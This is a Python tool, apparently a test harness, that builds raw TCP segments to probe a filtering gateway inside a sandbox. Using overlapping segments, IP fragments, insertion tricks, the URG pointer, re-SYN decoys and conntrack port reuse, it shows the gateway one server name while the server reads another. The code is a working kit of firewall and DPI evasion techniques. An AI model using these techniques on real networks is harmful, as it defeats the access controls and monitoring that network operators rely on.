#!/usr/bin/env python3
"""rawtcp.py: a TCP client made by hand on raw sockets, for the segments no
kernel sends: the same bytes twice with different content, a first flight
in IP fragments, segments the server will throw away (insertion), a source
port reused in a way conntrack does not follow.

  rawtcp.py DST DPORT PLAN [options]

Runs as root inside a sandbox. Its own kernel knows nothing of the
connection and would reset it when the SYN-ACK comes, so for the time it
runs an iptables rule in the sandbox drops the kernel's resets from the
chosen source port (the sandbox is the attacker's: its root may do that);
the segments made here carry a socket mark that rule lets through.

Plans (the hello is a real one from Python's ssl, TLS 1.2 at most so the
server's certificate comes back in clear and says which name it served):
  overlap  --how once|same|full|partial|reorder|reorder-conflict: the hello
           for --sni (once: only that), and a second copy of some of its
           bytes in which --sni2 replaces --sni (same length); --gap S
           waits S seconds between the two. --how gap: the hello for
           --sni alone, 100 bytes past the stream's start
  frag     the hello in one TCP segment sent as IP fragments of --frag-size
           bytes (DF clear); --only-first sends the first fragment only;
           --frag-overlap adds a fragment that rewrites the SNI as --sni2
  resyn    after the handshake (ISN I), a second SYN on the 5-tuple with
           ISN I - d, d the length of a decoy for --sni; then one segment
           from I - d + 1: the decoy and the real flight for --sni2. The
           server, still holding the connection, answers the SYN with an
           ACK of the old one and reads only the real flight (it trims
           what lies before its next byte); prints d=N too
  ahead    HTTP: a POST head with a 30,000-byte body; then 1,000 bytes of
           it 20,000 bytes ahead of what was sent (out of order, beyond
           what the gateway stores), then the body in order, those bytes
           again among it
  urgent   the first flight with the URG flag, its pointer on a byte of
           the name (the server's TCP takes that byte out of the stream its
           application reads)
  insert   --trick md5|paws|ackpaws|oldack|badsum: a decoy first flight for
           --sni that the server drops (a TCP-MD5 option it has no key for,
           a timestamp older than the one it holds, the same after a bare
           ACK that raised it (one the gateway's kernel lets past sluiced),
           an ACK number too old for the server, a wrong checksum), then the
           real one for --sni2 over the same sequence numbers; --http does
           it with request heads instead of hellos
  reuse    after the handshake, the client resets the connection and then
           sends one more bare ACK of it (a stray, reordered one): conntrack
           has seen the reset, but not as the last packet from this side,
           so it will not reopen the 5-tuple and ignores a new SYN on it
           (not NEW). --pause S later (default 0.5), or once the file --go
           names exists (a test changes the policy meanwhile; 8 s at most),
           a new connection from the same source port with another ISN: the
           SYN, resent after 1 s and 3 s as a kernel does, for --wait
           seconds. answered: a SYN-ACK for the new ISN came back; the
           handshake is finished, --data sent, the answer read, and the
           connection reset. refused: a reset for the new SYN.
           --clean leaves the stray ACK out: the reset is the last word,
           and conntrack reopens the 5-tuple for the new SYN (ends the old
           entry, makes a new one). --syn-again sends the new SYN once more
           after its answer, 0.2 s later, as a client does whose SYN-ACK
           was lost; the handshake goes on once that is answered too.

Prints one line of key=value words:
  result=answered|reset|refused|timeout|closed   what the client saw
  cert=NAME       the certificate the server sent (a.test, b.test ...)
  host=NAME       an HTTP answer's "hello from NAME"
  frags_out=N     fragments that left the sandbox's eth0
  sport=N         reuse: the source port both connections used
  syns=N          reuse: the SYNs sent for the new connection
  bytes_in=N      reuse: bytes the server sent on the new connection
"""
import argparse
import os
import random
import re
import select
import socket
import ssl
import struct
import subprocess
import sys
import time

FIN, SYN, RST, PSH, ACK = 0x01, 0x02, 0x04, 0x08, 0x10
ETH_P_ALL = 0x0003
PACKET_OUTGOING = 4
OWN_MARK = 0x5A17  # SO_MARK of our segments: our own resets must leave
MSS_OPT = b"\x02\x04\x05\xb4"  # MSS 1460


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ip_header(src, dst, proto, plen, ident, frag, ttl=64):
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + plen, ident, frag, ttl,
                    proto, 0, src, dst)
    return h[:10] + struct.pack("!H", csum(h)) + h[12:]


def tcp_segment(src, dst, sport, dport, seq, ack, flags, opts=b"", data=b"",
                win=64240, badsum=False, urg=0):
    while len(opts) % 4:
        opts += b"\x01"  # NOP
    off = (20 + len(opts)) // 4
    hdr = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF,
                      ack & 0xFFFFFFFF, off << 4, flags, win, 0, urg) + opts
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(hdr) + len(data))
    c = csum(pseudo + hdr + data)
    if badsum:
        c ^= 0x5A5A
    return hdr[:16] + struct.pack("!H", c) + hdr[18:] + data


def tls12_hello(sni):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.maximum_version = ssl.TLSVersion.TLSv1_2
    inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(inc, out, server_hostname=sni)
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


def http_head(host):
    return ("GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" %
            host).encode()


def swap_name(data, old, new):
    """The same bytes with the name replaced (same length, so every
    length field stays right)."""
    assert len(old) == len(new) and data.count(old.encode()) == 1
    return data.replace(old.encode(), new.encode())


class Conn:
    """One hand-made TCP connection from the sandbox's own address."""

    def __init__(self, dst, dport, timestamps=False):
        self.dst_s = dst
        self.dst = socket.inet_aton(dst)
        probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        probe.connect((dst, dport))
        self.src = socket.inet_aton(probe.getsockname()[0])
        probe.close()
        self.sport = random.randint(40000, 60000)
        self.dport = dport
        self.ts = timestamps
        self.tsval = random.randint(1 << 20, 1 << 30)
        self.tsecr = 0
        self.ident = random.randint(1, 0xFFFF)
        self.isn = random.randint(0, 0xFFFFFFFF)
        self.rcv = None
        self.rule = ["-p", "tcp", "--sport", str(self.sport), "--tcp-flags",
                     "RST", "RST", "-m", "mark", "!", "--mark",
                     "0x%x" % OWN_MARK, "-j", "DROP"]
        subprocess.run(["iptables", "-w", "-A", "OUTPUT"] + self.rule,
                       check=True)
        self.tx = socket.socket(socket.AF_INET, socket.SOCK_RAW,
                                socket.IPPROTO_RAW)
        # the mark stays in the sandbox: a veth into another namespace
        # clears it
        self.tx.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, OWN_MARK)
        self.rx = socket.socket(socket.AF_INET, socket.SOCK_RAW,
                                socket.IPPROTO_TCP)
        self.got = {}        # server payload by sequence number
        self.reset = False
        self.win = 64240

    def close(self):
        subprocess.run(["iptables", "-w", "-D", "OUTPUT"] + self.rule,
                       check=False)

    def ts_opt(self, tsval=None):
        if not self.ts:
            return b""
        self.tsval += 1
        v = self.tsval if tsval is None else tsval
        return b"\x01\x01" + struct.pack("!BBII", 8, 10, v & 0xFFFFFFFF,
                                         self.tsecr)

    def segment(self, seq, flags, data=b"", opts=b"", badsum=False):
        return tcp_segment(self.src, self.dst, self.sport, self.dport, seq,
                           self.rcv or 0, flags, opts, data, win=self.win,
                           badsum=badsum)

    def send_ip(self, l4, frag=0x4000, ident=None):
        pkt = ip_header(self.src, self.dst, 6, len(l4),
                        self.ident if ident is None else ident, frag) + l4
        self.tx.sendto(pkt, (self.dst_s, 0))

    def send(self, off, data, opts=b"", badsum=False, flags=PSH | ACK):
        """Sends data at stream offset off (0 = the first byte)."""
        self.ident = (self.ident + 1) & 0xFFFF or 1
        self.send_ip(self.segment(self.isn + 1 + off, flags, data,
                                  self.ts_opt() + opts, badsum))

    def read(self, wait):
        """Takes in what the server sends for up to wait seconds (less once
        it resets, or falls silent after sending)."""
        end = time.time() + wait
        quiet = None
        while time.time() < end and not self.reset:
            t = min(end, quiet) if quiet else end
            r, _, _ = select.select([self.rx], [], [], max(0, t - time.time()))
            if not r:
                if quiet and time.time() >= quiet:
                    break
                continue
            pkt = self.rx.recv(65535)
            ihl = (pkt[0] & 15) * 4
            if pkt[12:16] != self.dst or pkt[9] != 6:
                continue
            t4 = pkt[ihl:]
            sport, dport, seq, ack, off, flags = struct.unpack("!HHIIBB",
                                                               t4[:14])
            if sport != self.dport or dport != self.sport:
                continue
            hl = (off >> 4) * 4
            self.parse_ts(t4[20:hl])
            if flags & RST:
                self.reset = True
                return flags
            if flags & SYN:
                return flags, seq
            data = t4[hl:struct.unpack("!H", pkt[2:4])[0] - ihl]
            if data:
                self.got.setdefault(seq, data)
                quiet = time.time() + 0.5
        return None

    def parse_ts(self, opts):
        i = 0
        while i < len(opts):
            k = opts[i]
            if k == 0:
                break
            if k == 1:
                i += 1
                continue
            if i + 1 >= len(opts) or opts[i + 1] < 2:
                break
            if k == 8 and opts[i + 1] == 10:
                self.tsecr = struct.unpack("!I", opts[i + 2:i + 6])[0]
            i += opts[i + 1]

    def handshake(self):
        opts = MSS_OPT
        if self.ts:
            opts += self.ts_opt(self.tsval)
        self.send_ip(self.segment(self.isn, SYN, opts=opts))
        end = time.time() + 3
        while time.time() < end:
            r = self.read(end - time.time())
            if self.reset:
                return "refused"
            if isinstance(r, tuple) and r[0] & SYN and r[0] & ACK:
                self.rcv = r[1] + 1
                self.send_ip(self.segment(self.isn + 1, ACK,
                                          opts=self.ts_opt()))
                return None
        return "timeout"

    def answer_to(self, isn, wait):
        """Waits up to wait seconds for the answer to a SYN with sequence
        number isn: "answered" (a SYN-ACK for it), "refused" (a reset for
        it) or None. Whatever acknowledges something else, such as the
        server's reset of an older connection on these ports, is passed
        over."""
        end = time.time() + wait
        while True:
            r, _, _ = select.select([self.rx], [], [],
                                    max(0, end - time.time()))
            if not r:
                return None
            pkt = self.rx.recv(65535)
            ihl = (pkt[0] & 15) * 4
            if pkt[12:16] != self.dst or pkt[9] != 6:
                continue
            sport, dport, seq, ack, _, flags = struct.unpack(
                "!HHIIBB", pkt[ihl:ihl + 14])
            if (sport != self.dport or dport != self.sport or
                    not flags & ACK or ack != (isn + 1) & 0xFFFFFFFF):
                continue
            if flags & RST:
                return "refused"
            if flags & SYN:
                self.rcv = seq + 1
                return "answered"

    def outcome(self):
        data = b"".join(v for _, v in sorted(self.got.items()))
        words = []
        if data:
            words.append("result=answered")
        elif self.reset:
            words.append("result=reset")
        else:
            words.append("result=timeout")
        for n in (b"a.test", b"b.test", b"default.invalid"):
            if n in data and not data.startswith(b"HTTP/"):
                words.append("cert=" + n.decode())
                break
        m = re.search(rb"hello from (\S+) on port 80", data)
        if m:
            words.append("host=" + m.group(1).decode())
        return words


def fragments(c, l4, size, overlap=None, only_first=False):
    """Sends l4 (a whole TCP segment) in IP fragments of size bytes."""
    c.ident = (c.ident + 1) & 0xFFFF or 1
    parts = list(range(0, len(l4), size))
    for i, start in enumerate(parts):
        more = 0x2000 if start + size < len(l4) else 0
        c.send_ip(l4[start:start + size], frag=more | (start // 8))
        if only_first:
            return
        if overlap is not None and i == 0:
            # a second version of the fragment that holds the name: Linux
            # drops a datagram whose fragments overlap
            at = overlap[0] // 8 * 8
            c.send_ip(overlap[1][at:at + size], frag=0x2000 | (at // 8))


def reuse(c, a):
    """The reuse plan, once the first handshake is done; returns its
    words."""
    c.send(0, b"", flags=RST | ACK)
    if not a.clean:
        time.sleep(0.05)
        c.send(0, b"", flags=ACK)  # the stray one, after the reset
    if a.go:
        end = time.time() + 8
        while not os.path.exists(a.go) and time.time() < end:
            time.sleep(0.05)
    else:
        time.sleep(a.pause)
    c.isn = (c.isn + random.randint(1 << 24, 1 << 30)) & 0xFFFFFFFF
    c.rcv = None
    c.reset = False
    start = time.time()
    end = start + a.wait
    syns, rto, next_syn, res = 0, 1.0, start, None
    while res is None and time.time() < end:
        if time.time() >= next_syn:
            c.send_ip(c.segment(c.isn, SYN, opts=MSS_OPT))
            syns += 1
            next_syn += rto
            rto *= 2
        res = c.answer_to(c.isn, min(next_syn, end) - time.time())
    if res == "answered" and a.syn_again:
        time.sleep(0.2)
        c.send_ip(c.segment(c.isn, SYN, opts=MSS_OPT))
        syns += 1
        # the server answers it again: read that before going on
        res = c.answer_to(c.isn, a.wait) or "timeout"
    words = ["result=" + (res or "timeout"), "sport=%d" % c.sport,
             "syns=%d" % syns]
    if res == "answered":
        c.send_ip(c.segment(c.isn + 1, ACK))
        data = a.data.encode()
        c.send(0, data)
        c.read(a.wait)
        got = sum(len(v) for v in c.got.values())
        words.append("bytes_in=%d" % got)
        if not c.reset:
            c.send(len(data), b"", flags=RST | ACK)
    return words


def resyn(c, a):
    """The resyn plan, once the first handshake is done; returns its
    words."""
    if a.http:
        real = http_head(a.sni2)
        decoy = ("GET / HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n"
                 "\r\n" % (a.sni, len(real))).encode()
    else:
        decoy = tls12_hello(a.sni)
        real = tls12_hello(a.sni2)
    d = len(decoy)
    isn2 = (c.isn - d) & 0xFFFFFFFF
    c.send_ip(c.segment(isn2, SYN, opts=MSS_OPT))
    time.sleep(0.2)
    c.ident = (c.ident + 1) & 0xFFFF or 1
    c.send_ip(c.segment(isn2 + 1, PSH | ACK, decoy + real))
    c.read(a.wait)
    return c.outcome() + ["d=%d" % d]


def ahead(c, a):
    """The ahead plan, once the handshake is done; returns its words."""
    n = 30000
    head = ("POST /ahead HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n"
            "Connection: close\r\n\r\n" % (a.sni, n)).encode()
    c.send(0, head)
    c.send(len(head) + 20000, b"x" * 1000)
    time.sleep(0.2)
    for off in range(0, n, 1000):
        c.send(len(head) + off, b"x" * 1000)
    c.read(a.wait)
    return c.outcome()


def count_out_frags(ps):
    n = 0
    while True:
        try:
            pkt, addr = ps.recvfrom(65535, socket.MSG_DONTWAIT)
        except BlockingIOError:
            return n
        if addr[2] != PACKET_OUTGOING or addr[1] != 0x0800 or len(pkt) < 20:
            continue
        if struct.unpack("!H", pkt[6:8])[0] & 0x3FFF:
            n += 1


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("dst")
    ap.add_argument("dport", type=int)
    ap.add_argument("plan", choices=["overlap", "frag", "insert", "reuse",
                                     "urgent", "resyn", "ahead"])
    ap.add_argument("--sni", default="a.test")
    ap.add_argument("--sni2", default="b.test")
    ap.add_argument("--how", default="full")
    ap.add_argument("--gap", type=float, default=0.0)
    ap.add_argument("--frag-size", type=int, default=64)
    ap.add_argument("--only-first", action="store_true")
    ap.add_argument("--frag-overlap", action="store_true")
    ap.add_argument("--trick", default="md5")
    ap.add_argument("--http", action="store_true")
    ap.add_argument("--wait", type=float, default=3.0)
    ap.add_argument("--pause", type=float, default=0.5)
    ap.add_argument("--go")
    ap.add_argument("--clean", action="store_true")
    ap.add_argument("--syn-again", action="store_true")
    ap.add_argument("--data", default="port reuse: the second connection\n")
    a = ap.parse_args()

    c = Conn(a.dst, a.dport, timestamps=a.plan == "insert" and
             a.trick in ("paws", "ackpaws"))
    if a.trick == "oldack":
        # a small window: the server's limit for an old ACK is the
        # largest window the client offered
        c.win = 1024
    words = []
    try:
        hs = c.handshake()
        if hs:
            print("result=" + hs)
            return
        if a.plan == "reuse":
            print(" ".join(reuse(c, a)))
            return
        if a.plan == "resyn":
            print(" ".join(resyn(c, a)))
            return
        if a.plan == "ahead":
            print(" ".join(ahead(c, a)))
            return
        if a.http:
            first = http_head(a.sni)
        else:
            first = tls12_hello(a.sni)
        second = swap_name(first, a.sni, a.sni2)
        if a.plan == "urgent":
            at = first.find(a.sni.encode())
            c.ident = (c.ident + 1) & 0xFFFF or 1
            c.send_ip(tcp_segment(c.src, c.dst, c.sport, c.dport, c.isn + 1,
                                  c.rcv, PSH | ACK | 0x20, data=first,
                                  urg=at + 1))
        elif a.plan == "overlap":
            h = len(first) // 2
            if a.how == "once":
                c.send(0, first)
            elif a.how == "gap":
                # the hello alone, 100 bytes past the stream's start: a
                # segment the server holds out of order and never reads
                c.send(100, first)
            elif a.how == "same":
                c.send(0, first)
                time.sleep(a.gap)
                c.send(0, first)
            elif a.how == "full":
                c.send(0, first)
                time.sleep(a.gap)
                c.send(0, second)
            elif a.how == "partial":
                # the second segment repeats the name's part of the first
                at = first.find(a.sni.encode())
                c.send(0, first[:at + len(a.sni)])
                time.sleep(a.gap)
                c.send(at - 4, second[at - 4:])
            elif a.how == "reorder":
                c.send(h, first[h:])
                time.sleep(a.gap)
                c.send(0, first[:h])
            elif a.how == "reorder-conflict":
                at = first.find(a.sni.encode())
                c.send(at - 4, second[at - 4:])
                time.sleep(a.gap)
                c.send(0, first[:at + len(a.sni)])
            else:
                sys.exit("unknown --how " + a.how)
        elif a.plan == "frag":
            ps = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM,
                               socket.htons(ETH_P_ALL))
            ps.bind(("eth0", 0))
            l4 = c.segment(c.isn + 1, PSH | ACK, first)
            ov = None
            if a.frag_overlap:
                l4b = c.segment(c.isn + 1, PSH | ACK, second)
                ov = (20 + first.find(a.sni.encode()), l4b)
            fragments(c, l4, a.frag_size, ov, a.only_first)
            time.sleep(0.2)
            words.append("frags_out=%d" % count_out_frags(ps))
        else:
            if a.trick == "md5":
                opts, bad = b"\x13\x12" + os.urandom(16), False
                c.send(0, first, opts=opts, badsum=bad)
            elif a.trick == "paws":
                # older than the timestamp the server holds from the SYN
                c.ident = (c.ident + 1) & 0xFFFF or 1
                c.send_ip(c.segment(c.isn + 1, PSH | ACK, first,
                                    c.ts_opt(c.tsval - 100000)))
            elif a.trick == "ackpaws":
                # a bare ACK (52 bytes: timestamps) raises the timestamp
                # the server holds; the decoy's ordinary one is then too
                # old for the server, and the real one is newer still
                high = c.tsval + 0x40000000
                c.send_ip(c.segment(c.isn + 1, ACK, opts=c.ts_opt(high)))
                time.sleep(0.1)
                c.send(0, first)
                c.tsval = high
            elif a.trick == "oldack":
                # an ACK number further back than the window it offered:
                # conntrack lets it by, the server drops the segment
                rcv = c.rcv
                c.rcv = (rcv - 5000) & 0xFFFFFFFF
                c.send(0, first)
                c.rcv = rcv
            elif a.trick == "badsum":
                c.send(0, first, badsum=True)
            else:
                sys.exit("unknown --trick " + a.trick)
            time.sleep(0.3)
            c.send(0, second)
        c.read(a.wait)
        print(" ".join(c.outcome() + words))
    finally:
        c.close()


if __name__ == "__main__":
    main()
